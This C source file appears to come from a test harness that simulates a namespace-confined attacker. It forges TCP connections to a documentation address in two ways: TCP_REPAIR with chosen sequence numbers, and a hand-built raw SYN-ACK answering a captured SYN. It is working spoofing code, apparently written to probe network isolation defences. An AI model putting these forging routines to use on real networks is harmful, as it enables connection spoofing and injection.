// SPDX-License-Identifier: Apache-2.0
/* Sockets of an attacker that has CAP_NET_ADMIN and CAP_NET_RAW in its own network namespace. */
#define _GNU_SOURCE
#include "intrude.h"
#include <arpa/inet.h>
#include <linux/if_packet.h>
#include <net/ethernet.h>
#include <netinet/ip.h>
#include <netinet/tcp.h>
#include <poll.h>
#include <string.h>
#include <sys/socket.h>
#include <unistd.h>

/* Nobody is there; the attacker's route to it leads nowhere. */
#define NOBODY "192.0.2.1"

struct segment {
	struct iphdr ip;
	struct tcphdr tcp;
} __attribute__((packed));

static struct sockaddr_in nobody(void)
{
	struct sockaddr_in address = { .sin_family = AF_INET, .sin_port = htons(PORT) };

	inet_pton(AF_INET, NOBODY, &address.sin_addr);
	return address;
}

static void choose(int file, int queue, __u32 number)
{
	if (setsockopt(file, IPPROTO_TCP, TCP_REPAIR_QUEUE, &queue, sizeof(queue)) == -1 ||
	    setsockopt(file, IPPROTO_TCP, TCP_QUEUE_SEQ, &number, sizeof(number)) == -1)
		fail("TCP_QUEUE_SEQ");
}

static void set_repair(int file, int value)
{
	if (setsockopt(file, IPPROTO_TCP, TCP_REPAIR, &value, sizeof(value)) == -1)
		fail("TCP_REPAIR");
}

int forge_by_repair(const struct stage *stage, const struct numbers *numbers)
{
	struct sockaddr_in target = nobody();
	int file;

	enter(&stage->third);
	command("ip route replace " NOBODY "/32 dev lo");
	file = open_socket();
	set_repair(file, TCP_REPAIR_ON);
	choose(file, TCP_SEND_QUEUE, numbers->client_next);
	choose(file, TCP_RECV_QUEUE, numbers->server_next);
	if (bind(file, (const struct sockaddr *)&stage->third_address,
		 sizeof(stage->third_address)) == -1 ||
	    connect(file, (const struct sockaddr *)&target, sizeof(target)) == -1)
		fail("forge");
	set_repair(file, TCP_REPAIR_OFF_NO_WP);
	return file;
}

static unsigned sum_of(const void *data, int size, unsigned sum)
{
	const unsigned short *words = data;

	for (int i = 0; i < size / 2; i++)
		sum += words[i];
	return sum;
}

static unsigned short folded(unsigned sum)
{
	while (sum >> 16)
		sum = (sum & 0xffff) + (sum >> 16);
	return ~sum;
}

/* The SYN that the attacker's own socket sends, as it leaves. */
static struct segment capture_syn(int tap)
{
	struct segment segment;

	while (wait_for(tap, POLLIN, 5000))
		if (recv(tap, &segment, sizeof(segment), 0) >= (long)sizeof(segment) &&
		    segment.ip.protocol == IPPROTO_TCP && segment.tcp.syn && !segment.tcp.ack &&
		    segment.ip.daddr == nobody().sin_addr.s_addr)
			return segment;
	fail("no SYN leaves");
}

/* Answers a SYN with a sequence number of one's choice. */
static void answer(const struct segment *syn, __u32 server_next)
{
	struct sockaddr_in to = { .sin_family = AF_INET, .sin_addr.s_addr = syn->ip.saddr };
	int raw = socket(AF_INET, SOCK_RAW, IPPROTO_RAW);
	struct segment segment = {
		.ip = { .ihl = 5, .version = 4, .ttl = 64, .protocol = IPPROTO_TCP },
		.tcp = { .doff = 5, .syn = 1, .ack = 1 },
	};

	segment.ip.tot_len = htons(sizeof(segment));
	segment.ip.saddr = syn->ip.daddr;
	segment.ip.daddr = syn->ip.saddr;
	segment.tcp.source = syn->tcp.dest;
	segment.tcp.dest = syn->tcp.source;
	segment.tcp.seq = htonl(server_next - 1);
	segment.tcp.ack_seq = htonl(ntohl(syn->tcp.seq) + 1);
	segment.tcp.window = htons(65535);
	segment.tcp.check = folded(sum_of(&segment.ip.saddr, 8,
					  htons(IPPROTO_TCP) + htons(sizeof(segment.tcp)) +
						  sum_of(&segment.tcp, sizeof(segment.tcp), 0)));
	if (raw == -1 || sendto(raw, &segment, sizeof(segment), 0, (struct sockaddr *)&to,
				sizeof(to)) != (long)sizeof(segment))
		fail("raw answer");
	close(raw);
}

int forge_by_answer(const struct stage *stage, const struct numbers *numbers, bool chooses)
{
	struct sockaddr_in target = nobody();
	struct segment syn;
	int file, tap;

	enter(&stage->third);
	command("ip route replace " NOBODY "/32 dev eth0 && "
		"ip neighbour replace " NOBODY " lladdr 02:00:00:00:00:01 dev eth0");
	tap = socket(AF_PACKET, SOCK_DGRAM, htons(ETH_P_ALL));
	file = open_socket();
	if (chooses) {
		set_repair(file, TCP_REPAIR_ON);
		choose(file, TCP_SEND_QUEUE, numbers->client_next - 1);
		set_repair(file, TCP_REPAIR_OFF_NO_WP);
	}
	if (bind(file, (const struct sockaddr *)&stage->third_address,
		 sizeof(stage->third_address)) == -1)
		fail("bind");
	connect(file, (const struct sockaddr *)&target, sizeof(target));
	syn = capture_syn(tap);
	close(tap);
	answer(&syn, numbers->server_next);
	if (!wait_for(file, POLLOUT, 5000))
		fail("the forged answer was not taken");
	return file;
}
